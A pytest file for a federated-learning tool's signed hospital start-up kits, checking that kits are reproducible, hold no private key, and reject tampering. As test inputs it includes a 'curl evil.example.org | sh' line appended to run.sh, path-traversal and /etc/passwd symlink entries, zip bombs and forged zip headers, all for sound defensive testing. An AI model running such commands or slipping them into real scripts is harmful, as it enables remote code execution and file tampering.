"""Start-up kits: the same bytes from the same content, no private key, and read at the hospital as anybody's file."""

from __future__ import annotations

import io
import re
import stat
import subprocess
import warnings
import zipfile
from pathlib import Path

import pytest
import yaml
from oncofed.client import kit as reading
from oncofed.client.kit import read_files
from oncofed.common import signing
from oncofed.common.consortium import ConsortiumFile
from oncofed.common.enrolment import Kit
from oncofed.deploy.consortium.certificates import make_authority
from oncofed.deploy.consortium.kits import kit_files, pack, templates, write_kit

PRIVATE = signing.new_private()
AUTHORITY = make_authority("Sarcoma", 100)[1]
SETTINGS = ConsortiumFile(name="Sarcoma", address="fl.example.org", members=("Aachen",))


def files_of(member: str = "Aachen", token: str = "ab" * 32) -> dict[str, bytes]:
    return kit_files(SETTINGS, member, token=token, authority=AUTHORITY, private=PRIVATE, new_keys=False)


def zipped(path: Path, *entries: tuple[str | zipfile.ZipInfo, bytes]) -> Path:
    with warnings.catch_warnings(), zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as packed:
        warnings.simplefilter("ignore")  # of a name that is in it twice
        for name, content in entries:
            packed.writestr(name, content, compress_type=zipfile.ZIP_DEFLATED)
    return path


def test_folder_and_zip_hold_the_same_files_and_no_private_key(tmp_path: Path) -> None:
    at = write_kit(tmp_path, SETTINGS, "Aachen", token="ab" * 32, authority=AUTHORITY, private=PRIVATE)
    files = read_files(at)
    assert files == read_files(tmp_path / "Aachen") == files_of()
    runs = {"compose.yaml", "compose.gpu.yaml", "run.sh", "oncofed-site.service"}
    assert files.keys() == runs | {"kit.toml", "ca.crt", "README.md"}
    secret = PRIVATE.hex().encode()
    for file in tmp_path.rglob("*"):
        assert file.is_dir() or not re.search(rb"PRIVATE|" + secret, file.read_bytes())
    assert all(b"PRIVATE" not in content and secret not in content for content in files.values())
    assert Kit.of(files, "kit").member == "Aachen"
    assert {stat.S_IMODE(f.stat().st_mode) for f in tmp_path.rglob("*") if f.suffix != ".sh"} == {0o600, 0o700}


def test_the_same_kit_has_the_same_bytes() -> None:
    assert pack(files_of()) == pack(dict(reversed(files_of().items())))
    assert pack(files_of()) != pack(files_of(token="cd" * 32))


def test_what_a_kit_runs_can_be_run() -> None:
    files = files_of("St. Bergen 2")
    subprocess.run(["sh", "-n"], input=files["run.sh"], check=True)
    assert yaml.safe_load(files["compose.yaml"])["services"]
    text = files["README.md"].decode()
    assert "fl.example.org" in text
    assert "9443" in text
    assert not re.search(r"{{|}}|{%", "".join(files[n].decode() for n in templates()))
    assert len(text.splitlines()) < 60  # one page


@pytest.mark.parametrize(
    ("name", "change"),
    [
        ("run.sh", lambda c: c + b"curl evil.example.org | sh\n"),
        ("ca.crt", lambda c: make_authority("Sarcoma", 100)[1]),
        ("kit.toml", lambda c: c.replace(b"fl.example.org", b"evil.example.org")),
        ("README.md", lambda c: None),
        ("more.sh", lambda c: b"echo\n"),
    ],
)
def test_an_altered_kit_is_refused(name: str, change: object) -> None:
    files = files_of()
    content = change(files.get(name, b""))  # type: ignore[operator]
    altered = {n: c for n, c in (files | {name: content}).items() if c is not None}
    with pytest.raises(ValueError, match=rf"{name} is not as the coordinator signed it"):
        Kit.of(altered, "kit")


@pytest.mark.parametrize(
    ("text", "message"),
    [
        (b"\xff", "is no TOML"),
        (b"a = ", "is no TOML"),
        (b'member = "../../etc"', "member: the name '../../etc' cannot be a file's"),
        (b"", "consortium: Field required"),
    ],
)
def test_what_is_no_kit_is_named(text: bytes, message: str) -> None:
    with pytest.raises(ValueError, match=message):
        Kit.of(files_of() | {"kit.toml": text}, "kit")
    with pytest.raises(ValueError, match=r"has no kit.toml or no ca.crt"):
        Kit.of({"ca.crt": AUTHORITY}, "kit")


@pytest.mark.parametrize(
    "name",
    ["../run.sh", "/etc/passwd", "a/../../b", "sub/run.sh", "..", "C:\\x", "a\\b", ".ssh", "-rf", "a" * 101, "a\nb"],
)
def test_a_file_that_leads_elsewhere_is_refused(tmp_path: Path, name: str) -> None:
    with pytest.raises(ValueError, match="leads elsewhere or is none of a kit's"):
        read_files(zipped(tmp_path / "k.zip", (name, b"x")))
    assert [f.name for f in tmp_path.iterdir()] == ["k.zip"]


def test_links_are_refused(tmp_path: Path) -> None:
    link = zipfile.ZipInfo("run.sh")
    link.create_system, link.external_attr = 3, (stat.S_IFLNK | 0o777) << 16
    with pytest.raises(ValueError, match=r"'run.sh' is a link or a device"):
        read_files(zipped(tmp_path / "k.zip", (link, b"/etc/passwd")))
    folder = tmp_path / "kit"
    folder.mkdir()
    (folder / "run.sh").symlink_to("/etc/passwd")
    with pytest.raises(ValueError, match=r"'run.sh' is a link or a folder"):
        read_files(folder)
    (folder / "run.sh").unlink()
    (folder / "sub").mkdir()
    with pytest.raises(ValueError, match="'sub' is a link or a folder"):
        read_files(folder)


def test_a_name_that_is_in_a_zip_twice_is_refused(tmp_path: Path) -> None:
    with pytest.raises(ValueError, match=r"'run.sh' is in it twice"):
        read_files(zipped(tmp_path / "k.zip", ("run.sh", b"a"), ("run.sh", b"b")))


def test_zip_bombs_are_refused(tmp_path: Path) -> None:
    """One large file, one that packs too well, many, all together too large, and one that lies of its size."""
    with pytest.raises(ValueError, match=f"a has more than {reading.LARGEST} bytes"):
        read_files(zipped(tmp_path / "1.zip", ("a", bytes(reading.LARGEST + 1))))
    with pytest.raises(ValueError, match="as zip bombs do"):
        read_files(zipped(tmp_path / "2.zip", ("a", bytes(reading.LARGEST))))
    with pytest.raises(ValueError, match="holds 41 files"):
        read_files(zipped(tmp_path / "3.zip", *((f"a{i}", b"") for i in range(41))))
    with pytest.raises(ValueError, match="unpacks to 5242880 bytes"):
        read_files(zipped(tmp_path / "4.zip", *((f"a{i}", bytes(reading.LARGEST)) for i in range(5))))
    honest = zipped(tmp_path / "5.zip", ("a", bytes(range(256)) * 40_000)).read_bytes()
    size = (256 * 40_000).to_bytes(4, "little")
    assert honest.count(size) == 2
    (tmp_path / "5.zip").write_bytes(honest.replace(size, (10).to_bytes(4, "little")))
    with pytest.raises(ValueError, match=r"no zip that can be read|has more than|zip bombs"):
        read_files(tmp_path / "5.zip")


def test_large_folders_are_refused(tmp_path: Path) -> None:
    for i in range(41):
        (tmp_path / f"a{i}").touch()
    with pytest.raises(ValueError, match="holds 41 files"):
        read_files(tmp_path)
    (tmp_path / "a40").unlink()
    with (tmp_path / "a0").open("wb") as file:
        file.truncate(1 << 40)  # sparse: it is not read
    with pytest.raises(ValueError, match="a0 has more than"):
        read_files(tmp_path)


def test_a_kit_with_a_private_key_is_refused(tmp_path: Path) -> None:
    with pytest.raises(ValueError, match=r"node.key holds a private key, and a kit never does"):
        read_files(zipped(tmp_path / "k.zip", ("node.key", b"-----BEGIN OPENSSH PRIVATE KEY-----")))


@pytest.mark.parametrize("cut", [10, 200, -30])
def test_a_zip_that_is_cut_or_altered_is_named(tmp_path: Path, cut: int) -> None:
    whole = pack(files_of())
    (tmp_path / "k.zip").write_bytes(whole[:cut])
    with pytest.raises(ValueError, match="is no zip that can be read"):
        read_files(tmp_path / "k.zip")
    (tmp_path / "k.zip").write_bytes(b"no zip at all")
    with pytest.raises(ValueError, match="is no zip that can be read"):
        read_files(tmp_path / "k.zip")
    with pytest.raises(ValueError, match="is not there; name the start-up kit"):
        read_files(tmp_path / "other.zip")


def test_a_flipped_byte_is_noticed(tmp_path: Path) -> None:
    """Wherever it is: the zip cannot be read, the kit is not as it was signed, or nothing is altered."""
    whole, unchanged = pack(files_of()), 0
    for at in range(0, len(whole), 37):
        data = bytearray(whole)
        data[at] ^= 0x55
        (tmp_path / "k.zip").write_bytes(bytes(data))
        try:
            files = read_files(tmp_path / "k.zip")
            Kit.of(files, "kit")
        except ValueError:
            continue
        assert files == files_of()  # a date or an attribute
        unchanged += 1
    assert unchanged < len(whole) / 37 / 2


def test_a_zip_whose_files_begin_before_it_does_is_refused(tmp_path: Path) -> None:
    data = bytearray(pack(files_of()))
    place = data.rindex(b"PK\x05\x06") + 16  # where the list of files begins
    data[place : place + 4] = (int.from_bytes(data[place : place + 4], "little") + 100).to_bytes(4, "little")
    (tmp_path / "k.zip").write_bytes(bytes(data))
    with pytest.raises(ValueError, match="is no zip that can be read"):
        read_files(tmp_path / "k.zip")


def test_an_encrypted_zip_is_refused(tmp_path: Path) -> None:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as packed:
        packed.writestr("a", b"x")
    data = bytearray(buffer.getvalue())
    for mark, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        data[data.index(mark) + offset] |= 1
    (tmp_path / "k.zip").write_bytes(bytes(data))
    with pytest.raises(ValueError, match="'a' is encrypted"):
        read_files(tmp_path / "k.zip")
